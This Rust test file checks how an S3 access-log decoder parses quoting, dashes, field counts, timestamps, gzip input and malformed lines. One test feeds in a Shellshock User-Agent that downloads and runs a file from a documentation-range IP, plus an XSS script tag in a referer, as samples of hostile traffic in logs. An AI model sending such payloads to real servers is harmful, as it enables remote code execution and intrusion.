//! One test per rule the access-log format and real logs impose (issue #2), each named after
//! the rule, built from real corpus lines.

mod common;

use common::*;
use s3trawl::format::access_log::DecoderOptions;
use serde_json::{Value, json};

fn one_row(line: &str) -> serde_json::Map<String, Value> {
    let (batches, report) = decode_bytes("t", line.as_bytes());
    assert!(report.rejects.is_empty(), "{:?}", report.rejects);
    let mut rows = rows(&batches);
    assert_eq!(rows.len(), 1);
    rows.remove(0)
}

#[test]
fn dash_is_null_in_every_field() {
    need_corpora!();
    let logstash = std::fs::read_to_string(
        corpora().join("access-logs/logstash-patterns-core/aws_spec_S3_ACCESS_LOG_messages.log"),
    )
    .unwrap();
    let r = one_row(logstash.lines().nth(1).unwrap());
    assert_eq!(r["requester"], Value::Null, "anonymous requester");
    assert_eq!(r["bytessent"], Value::Null);
    assert_eq!(r["errorcode"], Value::Null);
    assert_eq!(r["referrer"], Value::Null, "quoted \"-\"");
    assert_eq!(r["versionid"], Value::Null);
}

/// Even the request ID and the operation may be `-` (Panther's normalised test events have
/// no operation); the fields after them still line up.
#[test]
fn dash_request_id_and_operation() {
    need_corpora!();
    let line = doc_line();
    let fields: Vec<&str> = line.split(' ').collect();
    // owner bucket [time offset] ip requester id operation …
    let (id, op) = (fields[6], fields[7]);
    let both = line.replacen(&format!(" {id} {op} "), " - - ", 1);
    let r = one_row(&both);
    assert_eq!(r["requestid"], Value::Null);
    assert_eq!(r["operation"], Value::Null);
    assert_eq!(r["key"], one_row(&line)["key"]);
    assert_eq!(r["httpstatus"], json!(200));
    assert_eq!(r["tlsversion"], one_row(&line)["tlsversion"]);
    let op_only = line.replacen(&format!(" {op} "), " - ", 1);
    let r = one_row(&op_only);
    assert_eq!(r["requestid"], json!(id));
    assert_eq!(r["operation"], Value::Null);
    assert_eq!(r["bytessent"], one_row(&line)["bytessent"]);
}

#[test]
fn request_uri_quoted_quoted_dash_and_bare_dash() {
    need_corpora!();
    let line = doc_line();
    assert_eq!(
        one_row(&line)["request_uri"],
        json!("GET /amzn-s3-demo-bucket1?versioning HTTP/1.1")
    );
    let quoted_dash = line.replace("\"GET /amzn-s3-demo-bucket1?versioning HTTP/1.1\"", "\"-\"");
    assert_eq!(one_row(&quoted_dash)["request_uri"], Value::Null);
    let bare = line.replace("\"GET /amzn-s3-demo-bucket1?versioning HTTP/1.1\"", "-");
    assert_eq!(one_row(&bare)["request_uri"], Value::Null);
    assert_eq!(one_row(&bare)["httpstatus"], json!(200));
}

#[test]
fn referer_and_user_agent_quoted_quoted_dash_and_bare_dash() {
    need_corpora!();
    let line = doc_line();
    for (fields, referrer, agent) in [
        (
            r#""-" "S3Console/0.4""#,
            Value::Null,
            json!("S3Console/0.4"),
        ),
        (r#"- "S3Console/0.4""#, Value::Null, json!("S3Console/0.4")),
        (r#""http://x/" -"#, json!("http://x/"), Value::Null),
        (r#"- -"#, Value::Null, Value::Null),
        (r#""-" "-""#, Value::Null, Value::Null),
    ] {
        let r = one_row(&line.replace(r#""-" "S3Console/0.4""#, fields));
        assert_eq!(
            (&r["referrer"], &r["useragent"]),
            (&referrer, &agent),
            "{fields}"
        );
        assert_eq!(
            r["sigv"],
            json!("SigV4"),
            "{fields}: the fields after line up"
        );
        assert_eq!(r["aclrequired"], json!("Yes"), "{fields}");
    }
}

#[test]
fn unescaped_quotes_inside_user_agent_and_referer() {
    need_corpora!();
    let line = doc_line();
    let shellshock =
        r#"() { :;}; /bin/bash -c "wget http://198.51.100.9/x -O /tmp/x; chmod +x /tmp/x; /tmp/x""#;
    let r = one_row(&line.replace(r#""S3Console/0.4""#, &format!("\"{shellshock}\"")));
    assert_eq!(r["useragent"], json!(shellshock));
    assert_eq!(r["hostid"].as_str().map(|s| &s[..6]), Some("s9lzHY"));
    assert_eq!(r["tlsversion"], json!("TLSV1.2"));

    let referer = r#"https://example.com/?q="><script>alert(1)</script>"#;
    let r = one_row(&line.replace(
        r#""-" "S3Console/0.4""#,
        &format!("\"{referer}\" \"Mozilla \"quoted\" agent\""),
    ));
    assert_eq!(r["referrer"], json!(referer));
    assert_eq!(r["useragent"], json!("Mozilla \"quoted\" agent"));
    assert_eq!(r["aclrequired"], json!("Yes"));
}

#[test]
fn spaces_in_referer_and_requester() {
    need_corpora!();
    let line = doc_line();
    let r = one_row(&line.replace(
        r#""-" "S3Console"#,
        r#""https://www.example.com/search results?q=a b" "S3Console"#,
    ));
    assert_eq!(
        r["referrer"],
        json!("https://www.example.com/search results?q=a b")
    );
    let oai = "arn:aws:iam::cloudfront:user/CloudFront Origin Access Identity E15MNIMTCFKK4C";
    let owner = "79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be";
    let with_oai = line.replacen(
        &format!("192.0.2.3 {owner}"),
        &format!("192.0.2.3 {oai}"),
        1,
    );
    let r = one_row(&with_oai);
    assert_eq!(r["requester"], json!(oai));
    assert_eq!(r["requestid"], json!("3E57427F3EXAMPLE"));
    assert_eq!(r["operation"], json!("REST.GET.VERSIONING"));
}

#[test]
fn records_of_17_to_27_fields_and_beyond() {
    need_corpora!();
    let line = doc_line(); // 26 fields
    let fields: Vec<&str> = line.split(' ').collect();
    // The doc line's 26 fields are 30 space-separated tokens (time, request URI).
    let tail_start = fields.len() - 9; // versionid …aclrequired
    for keep in 0..=9 {
        let cut = fields[..tail_start + keep].join(" ");
        let r = one_row(&cut);
        assert_eq!(
            r["useragent"],
            json!("S3Console/0.4"),
            "{} fields",
            17 + keep
        );
        assert_eq!(
            r["aclrequired"] == json!("Yes"),
            keep == 9,
            "{} fields",
            17 + keep
        );
        assert_eq!(
            r["tlsversion"] == json!("TLSV1.2"),
            keep >= 7,
            "{} fields",
            17 + keep
        );
    }
    let r = one_row(&format!("{line} eu-west-1"));
    assert_eq!(r["source_region"], json!("eu-west-1"));
    assert_eq!(r["extra_fields"], Value::Null);
    let r = one_row(&format!("{line} eu-west-1 NewField1 NewField2"));
    assert_eq!(r["extra_fields"], json!("NewField1 NewField2"));
}

#[test]
fn strict_refuses_unknown_trailing_fields() {
    need_corpora!();
    let line = format!("{} us-east-1 Unknown", doc_line());
    let options = DecoderOptions {
        strict: true,
        ..Default::default()
    };
    let (batches, report) = decode_with("t", line.as_bytes(), options);
    assert!(batches.is_empty());
    assert_eq!(report.rejects.len(), 1);
    assert!(report.rejects[0].reason.contains("--strict"));
}

#[test]
fn time_offset_is_honoured() {
    need_corpora!();
    let beats =
        std::fs::read_to_string(corpora().join("access-logs/elastic-beats/test.log")).unwrap();
    let r = one_row(beats.lines().nth(5).unwrap());
    assert_eq!(
        r["requestdatetime"],
        json!("2021-02-09T12:48:42Z"),
        "[09/Feb/2021:14:48:42 +0200]"
    );
    let r = one_row(&doc_line().replace("+0000", "-0930"));
    assert_eq!(r["requestdatetime"], json!("2019-02-06T09:30:38Z"));
    assert_eq!(r["timestamp"], json!("2019/02/06"));
}

#[test]
fn invalid_utf8_is_replaced_not_fatal() {
    need_corpora!();
    let mut raw = doc_line()
        .replace("S3Console/0.4", "S3Console/\u{1}")
        .into_bytes();
    let at = raw.iter().position(|b| *b == 1).unwrap();
    raw[at] = 0xC3; // a lone lead byte
    raw.extend_from_slice(b"\n\xff\xfe garbage\n");
    let (batches, report) = decode_bytes("t", &raw);
    assert_eq!(rows(&batches)[0]["useragent"], json!("S3Console/\u{FFFD}"));
    assert_eq!(report.rejects.len(), 1);
    assert!(report.rejects[0].raw.contains('\u{FFFD}'));
}

#[test]
fn crlf_line_ends_and_blank_lines_are_tolerated() {
    need_corpora!();
    let line = doc_line();
    let input = format!("\r\n{line}\r\n\r\n   \n{line}\r\n");
    let (batches, report) = decode_bytes("t", input.as_bytes());
    let rows = rows(&batches);
    assert!(report.rejects.is_empty());
    assert_eq!(rows.len(), 2);
    assert_eq!(
        rows[0]["aclrequired"],
        json!("Yes"),
        "no \\r left in the last field"
    );
    assert_eq!(
        (rows[0]["log_line"].clone(), rows[1]["log_line"].clone()),
        (json!(2), json!(5))
    );
}

#[test]
fn long_lines() {
    need_corpora!();
    let agent = format!("Mozilla/5.0 {}", "(KHTML, like Gecko) ".repeat(200));
    let r = one_row(&doc_line().replace("S3Console/0.4", &agent));
    assert!(agent.len() > 4000);
    assert_eq!(r["useragent"], json!(agent));
}

#[test]
fn bad_lines_are_quarantined_with_object_line_and_offset() {
    need_corpora!();
    let line = doc_line();
    let truncated = &line[..line.find(" - 113 -").unwrap()];
    let glued = format!("{line}{line}");
    let impossible = line.replace("06/Feb/2019", "31/Apr/2019");
    let garbage = "<html><body>503 Service Unavailable</body></html>";
    let input = format!("{line}\n{truncated}\n{glued}\n{impossible}\n{garbage}\n{line}\n");
    let (batches, report) = decode_bytes("s3://bucket/logs/obj", input.as_bytes());
    let rows = rows(&batches);
    assert_eq!(rows.len(), 2);
    assert_eq!(rows[1]["log_line"], json!(6));
    let r = &report.rejects;
    assert_eq!(r.len(), 4);
    let lines: Vec<u64> = r.iter().map(|r| r.line).collect();
    assert_eq!(lines, vec![2, 3, 4, 5]);
    let offsets: Vec<u64> = r.iter().map(|r| r.byte_offset).collect();
    let expected: Vec<u64> = {
        let mut o = Vec::new();
        let mut pos = 0;
        for l in input.lines() {
            o.push(pos as u64);
            pos += l.len() + 1;
        }
        o[1..5].to_vec()
    };
    assert_eq!(offsets, expected);
    assert!(r[0].reason.contains("truncated"), "{}", r[0].reason);
    assert!(r[1].reason.contains("glued"), "{}", r[1].reason);
    assert!(r[2].reason.contains("impossible time"), "{}", r[2].reason);
    assert!(r[3].reason.contains("not a time"), "{}", r[3].reason);
    assert_eq!(r[3].raw, garbage);
    assert_eq!(r[0].raw, truncated);
}

#[test]
fn plain_gzip_and_multi_member_gzip_give_identical_rows() {
    need_corpora!();
    let mut content = String::new();
    for file in [
        "elastic-beats/test.log",
        "elastic-integrations/test-s3-server-access.log",
        "logstash-patterns-core/aws_spec_S3_ACCESS_LOG_messages.log",
    ] {
        content
            .push_str(&std::fs::read_to_string(corpora().join("access-logs").join(file)).unwrap());
        if !content.ends_with('\n') {
            content.push('\n');
        }
    }
    let plain = content.as_bytes();
    let gz = gzip(plain);
    let half = content[..content.len() / 2].rfind('\n').unwrap() + 1;
    let mut multi = gzip(&plain[..half]);
    multi.extend(gzip(&plain[half..]));
    let mut three = gzip(&plain[..10]);
    three.extend(gzip(&plain[10..half]));
    three.extend(gzip(&plain[half..]));
    let expected = rows(&decode_bytes("o", plain).0);
    assert_eq!(expected.len() as u64, non_blank_lines(plain));
    for (what, raw) in [
        ("gzip", gz),
        ("two members", multi),
        ("three members, split mid-line", three),
    ] {
        let (batches, report) = decode_bytes("o", &raw);
        assert!(report.rejects.is_empty(), "{what}");
        assert_eq!(rows(&batches), expected, "{what}");
    }
}

#[test]
fn a_truncated_gzip_object_keeps_its_good_lines_and_says_where_it_broke() {
    need_corpora!();
    let line = doc_line();
    let content: String = (0..2000)
        .map(|i| line.replace("3E57427F3EXAMPLE", &format!("{i:016}")) + "\n")
        .collect();
    let gz = gzip(content.as_bytes());
    let cut = &gz[..gz.len() / 2];
    let (batches, report) = decode_bytes("/logs/cut.gz", cut);
    let rows = rows(&batches);
    assert!(!rows.is_empty() && rows.len() < 2000);
    let damage = report.rejects.last().unwrap();
    assert!(damage.reason.contains("damaged"), "{}", damage.reason);
    assert_eq!(damage.line, rows.len() as u64 + 1);
    assert_eq!(damage.byte_offset, (rows.len() * (line.len() + 1)) as u64);
}

#[test]
fn binary_objects_are_one_reject_and_other_text_is_rejected_line_by_line() {
    let (b, report) = decode_bytes("x.parquet", b"PAR1\x00\x01\x02binary");
    assert!(b.is_empty());
    assert_eq!(report.rejects.len(), 1);
    assert!(report.rejects[0].reason.contains("binary"));
    let (b, report) = decode_bytes("notes.txt", b"# Logs\n\nThese are our logs.\n");
    assert!(b.is_empty());
    assert_eq!(
        report.rejects.iter().map(|r| r.line).collect::<Vec<_>>(),
        vec![1, 3]
    );
}

/// Whether the windows of this object are split into parallel pieces depends on how many other
/// scans run at the time (see `scan::tests` for a window forced into pieces).
#[test]
fn large_objects_keep_line_numbers_and_order() {
    need_corpora!();
    let line = doc_line();
    let mut content = String::new();
    for i in 0..30_000 {
        if i % 997 == 0 {
            content.push_str("broken line\n");
        } else {
            content.push_str(&line.replace("3E57427F3EXAMPLE", &format!("{i:016}")));
            content.push('\n');
        }
    }
    assert!(content.len() > 4 * s3trawl::scan::PARALLEL_MIN);
    let (batches, report) = decode_bytes("big", content.as_bytes());
    let rows = rows(&batches);
    assert_eq!(rows.len() + report.rejects.len(), 30_000);
    for (n, r) in rows.iter().enumerate().step_by(101) {
        let line_no = r["log_line"].as_u64().unwrap();
        assert_eq!(
            r["requestid"],
            json!(format!("{:016}", line_no - 1)),
            "row {n}"
        );
    }
    let lines: Vec<u64> = report.rejects.iter().map(|r| r.line).collect();
    assert_eq!(
        lines,
        (0..30_000)
            .step_by(997)
            .map(|i| i as u64 + 1)
            .collect::<Vec<_>>()
    );
}

/// NCBI's public buckets' logs of 2019 (read right by NCBI's own parser): AWS wrote the Host Id
/// as an access key ID, a space and the base64 value. Every field after the User-Agent stays in
/// place, and the User-Agent is not taken for the Referer.
#[test]
fn a_host_id_with_a_space_as_aws_wrote_them_in_2019() {
    let line = "7dd8dcc5f2bd6e2da1b6b7dd2cd4e36a1f59e1c2a7b31a8bd8fc7d1b73b2a2e0 sra-pub-run-odp \
        [04/Jun/2019:17:13:53 +0000] 130.14.250.26 arn:aws:iam::783971887864:user/ncbi-sra \
        8B8B4BB0E4C5D4E6 REST.GET.OBJECT SRR000001/SRR000001.1 \
        \"GET /sra-pub-run-odp/SRR000001/SRR000001.1 HTTP/1.1\" 200 - 1048576 312466240 52 21 \
        \"-\" \"aws-cli/1.16.170 Python/3.6.8 Linux/3.10.0-957.el7.x86_64 botocore/1.12.160\" - \
        AIDAISBTTLPGXGH6YFFAY LzYG8xMvwL8j9pV0D7HQ2a0E1sVcNKnJmSxSQfJ7ZRzKbY4Wn0xNQDxDn3S4YDd1bSY6qOXxG4A= \
        SigV4 ECDHE-RSA-AES128-SHA AuthHeader sra-pub-run-odp.s3.amazonaws.com TLSv1.2";
    let r = one_row(line);
    assert_eq!(r["referrer"], Value::Null);
    assert_eq!(
        r["useragent"],
        json!("aws-cli/1.16.170 Python/3.6.8 Linux/3.10.0-957.el7.x86_64 botocore/1.12.160")
    );
    assert_eq!(
        r["hostid"],
        json!(
            "AIDAISBTTLPGXGH6YFFAY LzYG8xMvwL8j9pV0D7HQ2a0E1sVcNKnJmSxSQfJ7ZRzKbY4Wn0xNQDxDn3S4YDd1bSY6qOXxG4A="
        )
    );
    assert_eq!(r["sigv"], json!("SigV4"));
    assert_eq!(r["ciphersuite"], json!("ECDHE-RSA-AES128-SHA"));
    assert_eq!(r["authtype"], json!("AuthHeader"));
    assert_eq!(r["endpoint"], json!("sra-pub-run-odp.s3.amazonaws.com"));
    assert_eq!(r["tlsversion"], json!("TLSv1.2"));
}

/// A client that sent an empty header: `""` is the empty string, `"-"` (and `-`) is absent.
#[test]
fn an_empty_quoted_user_agent_is_the_empty_string_not_null() {
    need_corpora!();
    let line = doc_line();
    let r = one_row(&line.replace(r#""-" "S3Console/0.4""#, r#""" """#));
    assert_eq!((&r["referrer"], &r["useragent"]), (&json!(""), &json!("")));
    assert_eq!(r["sigv"], json!("SigV4"), "the fields after line up");
    let r = one_row(&line.replace(r#""-" "S3Console/0.4""#, r#""-" """#));
    assert_eq!(
        (&r["referrer"], &r["useragent"]),
        (&Value::Null, &json!(""))
    );
}
